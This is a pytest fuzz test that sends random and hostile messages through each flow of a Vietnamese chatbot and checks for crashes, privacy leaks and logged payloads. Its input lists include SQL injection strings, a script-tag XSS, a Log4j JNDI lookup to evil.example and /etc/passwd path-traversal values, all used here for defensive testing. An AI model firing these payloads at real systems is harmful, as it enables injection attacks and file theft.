"""Random and adversarial messages through the console, in every flow: no crash, no leak.

Each flow is entered as a real person would, then fed a seeded mix of hostile texts and
forged payloads. After every message: no apology (no handler crashed), no reply echoes
a huge text, nobody else's data shows. After each flow: the bystander's data is intact,
every stored profile is well-formed, the chat still works, and no log line holds any of
the hostile texts or personal values.
"""

from __future__ import annotations

import json
import logging
import random
import re

import pytest
from sqlalchemy import select

from bot.__main__ import quiet_noisy_loggers
from bot.app import App
from bot.channels.console import ConsoleChannel
from bot.core.clock import MovableClock
from bot.core.render import numbered_text
from bot.core.types import Attachment, AttachmentKind, Incoming, Reply
from handlers.common.steps import NAME_RE
from storage.models import AuditRow, ChatStateRow, PersonRow
from tests.harness import Chat, become, register
from tests.privacy.conftest import MakeApp

SEED = 20260101
ROUNDS = 40
BYSTANDER = "Trần Văn Bí Mật"
BYSTANDER_ID = "bystander-55501"

HOSTILE_TEXTS = [
    "\x00\x01\x02\x03\x1b[31mred\x1b[0m\x7f",
    "A" * 100_000,
    "B" * 4_001,
    "\u202eevil\u202c name \u2066isolated\u2069",
    "\u200f\u200eRTL marks\u200f",
    "Nguyễn\u200dThị\u200dLan",
    "zero\u200bwidth\ufeffbom",
    "<b>bold</b><script>alert('x')</script>",
    "*bold* _italic_ `code` [link](http://evil.example) ~~x~~",
    "'; DROP TABLE persons; --",
    "1 OR 1=1",
    "\" OR \"\"=\"",
    "{full_name}{0}{__class__}{{}}",
    "%s%s%s%n%x",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "/start ../../etc/passwd",
    "/start " + "x" * 300,
    "/nhanquyen ' OR 1=1 --",
    "/nhanquyen AAAA-AAAA",
    "/lienket 00000000",
    "/quyen",
    "/thongke",
    "/" + "z" * 500,
    "/",
    "🙂" * 2_000,
    "ＦＵＬＬＷＩＤＴＨ",
    "\n\n\n",
    "   ",
    "-1",
    "99999999999999999999999",
    "1e308",
    "NaN",
    "null",
    "Ａ̸̧̛̖̙̜̿̀ͅ zalgo",
    "\ud7ff\ue000\uffff",
    "x\r\ny\rz",
    "Lưu",
    "Quay lại",
    "Bỏ qua",
    "/huy",
]
FORGED_PAYLOADS = [
    "f:_save", "f:_edit", "f:_field:typing_full_name", "f:_back", "f:_skip", "f:_cancel",
    "f:yes", "f:admin", "f:ls", "f:../../x", "c:thongke", "c:quyen", "c:nope",
    "p:register", "p:name", "p:zzz", "pv:delete", "pv:wd:profile", "pv:wd:reminders",
    "pv:wd:../../", "ro:rv:1", "ro:rvok:1", "ro:rv:99999999999", "ro:new", "form:resume",
    "x" * 64, "x" * 65, "é", "\x00", "a:b:c:d:e:f",
]
ATTACHMENTS = [
    (Attachment(AttachmentKind.STICKER),),
    (Attachment(AttachmentKind.PHOTO, url="https://x/p.jpg", size=50_000_000),),
    tuple(Attachment(AttachmentKind.PHOTO, url=f"https://x/{i}.jpg") for i in range(20)),
    (Attachment(AttachmentKind.DOCUMENT, filename="../../evil.sh", size=10),),
    (Attachment(AttachmentKind.UNSUPPORTED),),
]

# How each flow is entered (typed by the fuzzed person, who is registered and liaison).
FLOWS = {
    "free text": [],
    "campaign browsing": ["/chuongtrinh", "1"],
    "registration": ["/quyenriengtu", "Rút lại đồng ý", "1", "1", "/toi", "1"],
    "registration, later step": ["/quyenriengtu", "Rút lại đồng ý", "1", "1", "/toi", "1",
                                 "1", "1", "Fuzz Thị Mười"],
    "profile edit": ["/toi", "Sửa đơn vị"],
    "privacy overview": ["/quyenriengtu"],
    "withdraw confirm": ["/quyenriengtu", "Rút lại đồng ý", "1"],
    "delete confirm": ["/quyenriengtu", "Xoá tài khoản"],
    "link": ["/lienket"],
    "roles menu": ["/quyen"],
    "invite form, role step": ["/quyen", "Tạo mã mời"],
    "invite form, unit step": ["/quyen", "Tạo mã mời", "1"],
    "invite list": ["/quyen", "Quyền đang giao"],
}


def _check_reply(reply: Reply) -> None:
    text = numbered_text(reply)
    assert "gặp sự cố" not in text, text[:300]
    assert len(text) < 5_000, "a reply must never echo a huge message"
    assert BYSTANDER not in text and BYSTANDER_ID not in text
    for choice in reply.flat_choices():
        assert choice.payload.isascii() and len(choice.payload.encode()) <= 64


async def _prepare(app: App, clock: MovableClock, user: str) -> Chat:
    """Register the fuzzed person and make them liaison (so every flow can be entered)."""
    chat = Chat(ConsoleChannel(app, clock, "admin"))
    await chat.send("/quyen")
    await chat.reply()
    for line in ("Tạo mã mời", "Cán bộ đầu mối đơn vị", "huyện chi lăng", "1", "Lưu"):
        await chat.send(line)
        shown = await chat.reply()
    code = re.search(r"/nhanquyen (\S+)", shown)
    assert code
    await become(chat, user)
    await register(chat, "Fuzz Thị Mười")
    await chat.send(f"/nhanquyen {code.group(1)}")
    await chat.reply()
    return chat


@pytest.mark.parametrize("flow", list(FLOWS))
async def test_hostile_messages_in_every_flow(
    flow: str, make_app: MakeApp, clock: MovableClock, caplog: pytest.LogCaptureFixture
) -> None:
    app = await make_app()
    bystander = Chat(ConsoleChannel(app, clock, BYSTANDER_ID))
    await register(bystander, BYSTANDER)
    user = "fuzz-" + re.sub(r"\W", "", flow)[:20]
    chat = await _prepare(app, clock, user)
    rng = random.Random(f"{SEED}:{flow}")
    with caplog.at_level(logging.DEBUG):
        quiet_noisy_loggers()
        for line in FLOWS[flow]:
            for reply in await chat.channel.process(line):
                _check_reply(reply)
        for _ in range(ROUNDS):
            kind = rng.random()
            if kind < 0.6:
                replies = await chat.channel.process(rng.choice(HOSTILE_TEXTS))
            elif kind < 0.85:
                replies = await app.handle(Incoming("console", user, user,
                                                    choice=rng.choice(FORGED_PAYLOADS)))
            else:
                replies = await app.handle(Incoming("console", user, user,
                                                    text=rng.choice(["", None, "ảnh"]),
                                                    attachments=rng.choice(ATTACHMENTS)))
            for reply in replies:
                _check_reply(reply)

    logged = caplog.text
    for needle in ("DROP TABLE", "alert(", "jndi", "evil", "Fuzz", "Mười", BYSTANDER,
                   "AAAA", "\x00", "zalgo"):
        assert needle not in logged, needle

    async with app.sessions() as session:
        people = (await session.scalars(select(PersonRow))).all()
        states = (await session.scalars(select(ChatStateRow))).all()
        audit = (await session.scalars(select(AuditRow))).all()
    by_name = [p for p in people if p.full_name == BYSTANDER]
    assert len(by_name) == 1 and by_name[0].birth_year == 1990 and by_name[0].deleted_at is None
    for person in people:
        if person.full_name is not None:
            assert NAME_RE.match(person.full_name) and len(person.full_name) <= 100
        if person.birth_year is not None:
            assert 1900 <= person.birth_year <= 2008
    for state in states:
        json.dumps(state.data)
        assert all(len(label) < 300 and payload.isascii() for label, payload in state.menu)
    for line in audit:
        assert "DROP" not in json.dumps(line.changes) and (line.reason or "").isascii()

    # The chat still works: cancel whatever is open, then the menu answers.
    await chat.channel.process("/huy")
    (menu,) = await chat.channel.process("/menu")
    assert "Bạn muốn làm gì?" in menu.text or "Tiếp tục" in menu.text
    await bystander.send("/toi")
    assert BYSTANDER in await bystander.reply()
